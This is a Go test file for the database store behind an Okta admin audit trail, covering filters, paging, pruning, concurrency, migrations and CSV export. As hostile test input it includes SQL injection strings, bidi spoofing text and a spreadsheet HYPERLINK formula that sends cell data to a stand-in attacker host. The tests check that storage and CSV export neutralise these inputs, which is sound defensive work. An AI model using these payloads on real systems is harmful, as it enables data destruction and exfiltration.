package audit

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"log/slog"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// fixture is one empty store of a backend under test.
type fixture struct {
	db *DB
	// another opens a second store on the same database, as a second instance or a restarted
	// process would.
	another func(t *testing.T) *DB
}

type newFixture func(t *testing.T) *fixture

// storeSuite is the contract every backend keeps, run once per backend (TestSQLiteStore,
// TestPostgresStore).
func storeSuite(t *testing.T, mk newFixture) {
	tests := []struct {
		name string
		run  func(t *testing.T, fx *fixture)
	}{
		{name: "append and read back", run: testRoundTrip},
		{name: "newest first", run: testNewestFirst},
		{name: "filters", run: testFilters},
		{name: "keyset paging", run: testPaging},
		{name: "prune", run: testPrune},
		{name: "hostile text", run: testHostileText},
		{name: "concurrent writers", run: testConcurrentWriters},
		{name: "another instance sees the records", run: testAnotherInstance},
		{name: "migrations are recorded once", run: testMigrations},
		{name: "csv export of a filter", run: testCSVExport},
		{name: "closed store fails", run: testClosed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.run(t, mk(t))
		})
	}
}

// t0 is the suite's clock: entries are placed around it.
var t0 = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// person is an Okta user as the trail names one.
type person struct{ id, login string }

var (
	ada   = person{"00uada", "ada@example.com"}
	hal   = person{"00uhal", "hal@example.com"}
	bob   = person{"00ubob", "Bob@Example.com"}
	carol = person{"00ucarol", "carol@example.com"}
)

func entry(at time.Time, actor, target person, action, result string) Entry {
	return Entry{
		Time: at, ActorID: actor.id, ActorLogin: actor.login, ActorIssuer: "https://example.okta.com", Role: "admin",
		TargetID: target.id, TargetLogin: target.login, Action: action, Result: result, RequestID: "req-" + action,
	}
}

func add(t *testing.T, db *DB, entries ...Entry) {
	t.Helper()
	for _, e := range entries {
		require.NoError(t, db.Append(t.Context(), e))
	}
}

func query(t *testing.T, db *DB, f Filter) Page {
	t.Helper()
	p, err := db.Query(t.Context(), f)
	require.NoError(t, err)
	return p
}

func actions(entries []Entry) []string {
	out := []string{}
	for _, e := range entries {
		out = append(out, e.Action)
	}
	return out
}

func testRoundTrip(t *testing.T, fx *fixture) {
	paris, err := time.LoadLocation("Europe/Paris")
	require.NoError(t, err)
	e := Entry{
		Time:    time.Date(2026, 3, 1, 13, 4, 5, 123456789, paris),
		ActorID: "00uada", ActorLogin: "ada@example.com", ActorIssuer: "https://example.okta.com", Role: "admin",
		TargetID: "00ubob", TargetLogin: "bob@example.com", Action: "reset-password", Reason: "ticket 4711",
		Result: ResultFailure, Detail: "E0000001", OktaRequestID: "okta-req-1", RequestID: "req-1",
	}
	add(t, fx.db, e)
	p := query(t, fx.db, Filter{})
	require.Len(t, p.Entries, 1)
	got := p.Entries[0]
	assert.Positive(t, got.ID, "the store numbers entries")
	assert.Equal(t, time.Date(2026, 3, 1, 12, 4, 5, 123456000, time.UTC), got.Time, "UTC, to the microsecond")
	assert.Equal(t, time.UTC, got.Time.Location())
	want := e
	want.ID, want.Time = got.ID, got.Time
	assert.Equal(t, want, got)
	assert.True(t, p.Older.IsZero() && p.Newer.IsZero(), "one entry is one page")

	before := time.Now()
	add(t, fx.db, Entry{Action: "no-time", Result: ResultSuccess})
	got = query(t, fx.db, Filter{Action: "no-time"}).Entries[0]
	assert.WithinRange(t, got.Time, before.Add(-time.Second), time.Now().Add(time.Second), "a zero time is now")
}

func testNewestFirst(t *testing.T, fx *fixture) {
	add(t, fx.db,
		entry(t0.Add(2*time.Hour), ada, bob, "second", ResultSuccess),
		entry(t0, ada, bob, "oldest", ResultSuccess),
		entry(t0.Add(3*time.Hour), ada, bob, "tie-1", ResultSuccess),
		entry(t0.Add(3*time.Hour), ada, bob, "tie-2", ResultSuccess),
		entry(t0.Add(time.Hour), ada, bob, "first", ResultSuccess),
	)
	got := query(t, fx.db, Filter{}).Entries
	assert.Equal(t, []string{"tie-2", "tie-1", "second", "first", "oldest"}, actions(got),
		"by time, newest first; entries of the same time, last written first")
}

func testFilters(t *testing.T, fx *fixture) {
	h := func(n int) time.Time { return t0.Add(time.Duration(n) * time.Hour) }
	oneil := person{"00uon1", "o'neil@example.com"}
	odash := person{"00uon2", "o-neil@example.com"}
	odot := person{"00uon3", "o.neil@example.com"}
	asa := person{"00uasa", "Åsa@example.com"}
	michal := person{"00umichal", "michal@example.com"}
	add(t, fx.db,
		entry(h(0), ada, bob, "e0", ResultSuccess),
		entry(h(1), hal, carol, "e1", ResultFailure),
		entry(h(2), hal, bob, "e2", ResultDenied),
		entry(h(3), ada, oneil, "e3", ResultSuccess),
		entry(h(4), ada, odash, "e4", ResultSuccess),
		entry(h(5), ada, odot, "e5", ResultSuccess),
		entry(h(6), asa, carol, "e6", ResultSuccess),
		entry(h(7), michal, bob, "e7", ResultSuccess),
	)
	// Actions double as names, so that the expected lists read easily; set the real actions
	// the action filter needs.
	tests := []struct {
		name string
		f    Filter
		want []string
	}{
		{name: "no filter", f: Filter{}, want: []string{"e7", "e6", "e5", "e4", "e3", "e2", "e1", "e0"}},
		{name: "actor by id", f: Filter{Actor: "00uhal"}, want: []string{"e2", "e1"}},
		{name: "actor id is exact and case-sensitive", f: Filter{Actor: "00UHAL"}},
		{name: "actor by the start of the login", f: Filter{Actor: "hal"}, want: []string{"e2", "e1"}},
		{name: "actor by whole login in capitals", f: Filter{Actor: "HAL@EXAMPLE.COM"}, want: []string{"e2", "e1"}},
		{name: "actor login longer than any", f: Filter{Actor: "hal@example.com.evil"}},
		{name: "actor with a non-ASCII login", f: Filter{Actor: "åsa"}, want: []string{"e6"}},
		{name: "actor with a non-ASCII login in capitals", f: Filter{Actor: "ÅSA@"}, want: []string{"e6"}},
		{name: "target by login stored in capitals", f: Filter{Target: "bob@example.com"}, want: []string{"e7", "e2", "e0"}},
		{name: "target by id", f: Filter{Target: carol.id}, want: []string{"e6", "e1"}},
		{name: "target prefix with an apostrophe", f: Filter{Target: "o'"}, want: []string{"e3"}},
		{name: "target prefix with a hyphen", f: Filter{Target: "o-"}, want: []string{"e4"}},
		{name: "target prefix with a dot", f: Filter{Target: "o."}, want: []string{"e5"}},
		{name: "target prefix shared", f: Filter{Target: "o"}, want: []string{"e5", "e4", "e3"}},
		{name: "LIKE wildcards are plain characters", f: Filter{Target: "%"}},
		{name: "underscore is a plain character", f: Filter{Actor: "_"}},
		{name: "quotes are plain characters", f: Filter{Actor: "' OR 1=1 --"}},
		{name: "actor and target", f: Filter{Actor: "hal", Target: "bob"}, want: []string{"e2"}},
		{name: "result", f: Filter{Result: ResultDenied}, want: []string{"e2"}},
		{name: "action", f: Filter{Action: "e4"}, want: []string{"e4"}},
		{name: "from is inclusive", f: Filter{From: h(6)}, want: []string{"e7", "e6"}},
		{name: "to is exclusive", f: Filter{To: h(2)}, want: []string{"e1", "e0"}},
		{name: "time range", f: Filter{From: h(1), To: h(3)}, want: []string{"e2", "e1"}},
		{name: "empty time range", f: Filter{From: h(3), To: h(3)}},
		{name: "actor, action and time", f: Filter{Actor: ada.id, Result: ResultSuccess, From: h(4)}, want: []string{"e5", "e4"}},
		{name: "limit", f: Filter{Limit: 3}, want: []string{"e7", "e6", "e5"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := query(t, fx.db, tt.f).Entries
			if tt.want == nil {
				tt.want = []string{}
			}
			assert.Equal(t, tt.want, actions(got))
		})
	}
}

func testPaging(t *testing.T, fx *fixture) {
	const total = 250
	var all []Entry
	for i := range total {
		// Three entries a second: pages must break ties by id, not skip or repeat them.
		who := ada
		if i%5 == 0 {
			who = hal
		}
		all = append(all, entry(t0.Add(time.Duration(i/3)*time.Second), who, bob, "a"+strconv.Itoa(i), ResultSuccess))
	}
	add(t, fx.db, all...)
	want := make([]string, total)
	for i := range total {
		want[i] = "a" + strconv.Itoa(total-1-i)
	}

	// Down, page by page.
	var pages []Page
	f := Filter{Limit: 100}
	for {
		p := query(t, fx.db, f)
		pages = append(pages, p)
		if len(pages) == 1 {
			// Written after the first page was read: newer than every page, so it must not
			// shift the pages that follow.
			add(t, fx.db, entry(t0.Add(time.Hour), ada, bob, "late", ResultSuccess))
		}
		if p.Older.IsZero() {
			break
		}
		f.Before = p.Older
		require.Less(t, len(pages), 10, "paging must end")
	}
	require.Len(t, pages, 3)
	var got []string
	for _, p := range pages {
		got = append(got, actions(p.Entries)...)
	}
	assert.Equal(t, want, got, "every entry once, in order")
	assert.Equal(t, []int{100, 100, 50}, []int{len(pages[0].Entries), len(pages[1].Entries), len(pages[2].Entries)})
	assert.True(t, pages[0].Newer.IsZero(), "the first page starts at the newest")
	assert.False(t, pages[1].Newer.IsZero())

	// Up again from the last page: the same pages, and the top has no Newer... except the
	// entry written meanwhile, which is now the newest.
	p := query(t, fx.db, Filter{Limit: 100, After: pages[2].Newer})
	assert.Equal(t, actions(pages[1].Entries), actions(p.Entries), "After returns the page before")
	assert.Equal(t, pages[1].Older, p.Older)
	p = query(t, fx.db, Filter{Limit: 100, After: p.Newer})
	assert.Equal(t, actions(pages[0].Entries), actions(p.Entries))
	require.False(t, p.Newer.IsZero(), "the late entry is newer still")
	p = query(t, fx.db, Filter{Limit: 100, After: p.Newer})
	assert.Equal(t, []string{"late"}, actions(p.Entries))
	assert.True(t, p.Newer.IsZero(), "nothing newer than the newest")

	// A cursor survives the URL.
	c, err := ParseCursor(pages[1].Older.String())
	require.NoError(t, err)
	assert.Equal(t, actions(pages[2].Entries), actions(query(t, fx.db, Filter{Limit: 100, Before: c}).Entries))

	// Paging a filter: hal did every fifth action.
	var hals []string
	f = Filter{Actor: "hal", Limit: 7}
	for range 20 {
		p := query(t, fx.db, f)
		hals = append(hals, actions(p.Entries)...)
		if p.Older.IsZero() {
			break
		}
		f.Before = p.Older
	}
	assert.Len(t, hals, total/5)
	assert.Equal(t, "a245", hals[0])
	assert.Equal(t, "a0", hals[len(hals)-1])

	assert.Len(t, query(t, fx.db, Filter{}).Entries, DefaultLimit, "no limit is the default page")
}

func testPrune(t *testing.T, fx *fixture) {
	fx.db.pruneBatch = 3 // several rounds
	for i := range 10 {
		add(t, fx.db, entry(t0.AddDate(0, 0, -i), ada, bob, "day-"+strconv.Itoa(i), ResultSuccess))
	}
	n, err := fx.db.Prune(t.Context(), t0.AddDate(0, 0, -5))
	require.NoError(t, err)
	assert.EqualValues(t, 4, n, "days 6 to 9 are older than 5 days")
	assert.Equal(t, []string{"day-0", "day-1", "day-2", "day-3", "day-4", "day-5"}, actions(query(t, fx.db, Filter{}).Entries),
		"an entry exactly at the cutoff is kept")
	n, err = fx.db.Prune(t.Context(), t0.AddDate(0, 0, -5))
	require.NoError(t, err)
	assert.Zero(t, n, "pruning twice deletes nothing more")

	n, err = fx.db.Prune(t.Context(), t0.Add(time.Second))
	require.NoError(t, err)
	assert.EqualValues(t, 6, n)
	assert.Empty(t, query(t, fx.db, Filter{}).Entries)
	add(t, fx.db, entry(t0, ada, bob, "after", ResultSuccess))
	assert.Greater(t, query(t, fx.db, Filter{}).Entries[0].ID, int64(10), "ids are never reused, even after the table emptied")
}

func testHostileText(t *testing.T, fx *fixture) {
	tests := []struct{ name, in, want string }{
		{name: "SQL", in: "'; DROP TABLE gatehouse_audit; --", want: "'; DROP TABLE gatehouse_audit; --"},
		{name: "quotes and newlines", in: "a \"b\"\r\nc\td", want: "a \"b\"\r\nc\td"},
		{name: "bidi and zero-width", in: "\u202egnp.exe\u200b", want: "\u202egnp.exe\u200b"},
		{name: "NUL", in: "a\x00b", want: "a\uFFFDb"},
		{name: "invalid UTF-8", in: "a\xffb", want: "a\uFFFDb"},
		{name: "formula", in: "=1+2", want: "=1+2"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := entry(t0, ada, person{"00u" + tt.name, tt.in}, tt.name, ResultSuccess)
			e.Reason, e.Detail = tt.in, tt.in
			add(t, fx.db, e)
			got := query(t, fx.db, Filter{Action: tt.name}).Entries
			require.Len(t, got, 1)
			assert.Equal(t, tt.want, got[0].Reason)
			assert.Equal(t, tt.want, got[0].Detail)
			assert.Equal(t, tt.want, got[0].TargetLogin)
		})
	}
	assert.Len(t, query(t, fx.db, Filter{}).Entries, len(tests), "the table is still there")
}

func testConcurrentWriters(t *testing.T, fx *fixture) {
	const writers, each = 8, 20
	var wg sync.WaitGroup
	errs := make(chan error, writers*each+20)
	for w := range writers {
		wg.Go(func() {
			for i := range each {
				errs <- fx.db.Append(t.Context(), entry(t0, ada, bob, fmt.Sprintf("w%d-%d", w, i), ResultSuccess))
			}
		})
	}
	// Readers beside the writers: WAL lets them through.
	wg.Go(func() {
		for range 20 {
			_, err := fx.db.Query(t.Context(), Filter{Actor: "ada"})
			errs <- err
		}
	})
	wg.Wait()
	close(errs)
	for err := range errs {
		require.NoError(t, err)
	}
	p := query(t, fx.db, Filter{Limit: MaxLimit})
	require.Len(t, p.Entries, writers*each, "no write lost")
	ids := map[int64]bool{}
	for _, e := range p.Entries {
		ids[e.ID] = true
	}
	assert.Len(t, ids, writers*each, "ids are unique")
}

func testAnotherInstance(t *testing.T, fx *fixture) {
	other := fx.another(t)
	add(t, fx.db, entry(t0, ada, bob, "from-a", ResultSuccess))
	add(t, other, entry(t0.Add(time.Second), hal, bob, "from-b", ResultSuccess))
	assert.Equal(t, []string{"from-b", "from-a"}, actions(query(t, fx.db, Filter{}).Entries))
	assert.Equal(t, []string{"from-b", "from-a"}, actions(query(t, other, Filter{}).Entries))
}

func testMigrations(t *testing.T, fx *fixture) {
	ctx := t.Context()
	v, err := fx.db.SchemaVersion(ctx)
	require.NoError(t, err)
	assert.Equal(t, migrations[len(migrations)-1].version, v)
	add(t, fx.db, entry(t0, ada, bob, "kept", ResultSuccess))

	// Migrating again, as every start does, changes nothing.
	require.NoError(t, fx.db.migrate(ctx))
	if fx.another != nil {
		fx.another(t)
	}
	var n int
	require.NoError(t, fx.db.db.QueryRowContext(ctx, "SELECT count(*) FROM "+migrationsTable).Scan(&n))
	assert.Equal(t, len(migrations), n, "each step is recorded once")
	assert.Equal(t, []string{"kept"}, actions(query(t, fx.db, Filter{}).Entries))
}

func testCSVExport(t *testing.T, fx *fixture) {
	for i := range 9 {
		who := ada
		if i%3 == 0 {
			who = hal
		}
		e := entry(t0.Add(time.Duration(i)*time.Minute), who, bob, "a"+strconv.Itoa(i), ResultSuccess)
		e.Reason = "routine"
		if i == 6 {
			e.Reason = `=HYPERLINK("https://evil.example/?"&A1,"click")`
		}
		add(t, fx.db, e)
	}
	var buf bytes.Buffer
	// Batches of 2: the export must walk the pages by itself.
	require.NoError(t, writeCSV(t.Context(), &buf, fx.db, Filter{Actor: hal.login, Limit: 1, Before: Cursor{Time: t0, ID: 1}}, 2))
	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 4, "a header and exactly hal's three entries; the cursor and limit are ignored")
	assert.Equal(t, csvHeader, rows[0])
	col := func(name string) int {
		for i, h := range csvHeader {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return -1
	}
	var got []string
	for _, r := range rows[1:] {
		got = append(got, r[col("action")])
		assert.Equal(t, hal.login, r[col("actor_login")])
	}
	assert.Equal(t, []string{"a6", "a3", "a0"}, got)
	assert.Equal(t, `'=HYPERLINK("https://evil.example/?"&A1,"click")`, rows[1][col("reason")], "a formula is neutralised")
	assert.Equal(t, "routine", rows[2][col("reason")])
	assert.Equal(t, t0.Add(6*time.Minute).Format(time.RFC3339Nano), rows[1][col("time")])
}

func testClosed(t *testing.T, fx *fixture) {
	require.NoError(t, fx.db.Close())
	assert.Error(t, fx.db.Append(t.Context(), entry(t0, ada, bob, "x", ResultSuccess)))
	_, err := fx.db.Query(t.Context(), Filter{})
	assert.Error(t, err)

	var logs bytes.Buffer
	trail := New(slog.New(slog.NewJSONHandler(&logs, nil)), fx.db)
	err = trail.Record(t.Context(), entry(t0, ada, bob, "unlock", ResultSuccess))
	require.ErrorIs(t, err, ErrNotRecorded, "a failed write is reported to the caller")
	assert.Contains(t, logs.String(), `"msg":"audit","action":"unlock"`, "the log line is written all the same")
	assert.Contains(t, logs.String(), `"msg":"audit store append failed"`)
	assert.Equal(t, 2, strings.Count(logs.String(), "\n"))
}
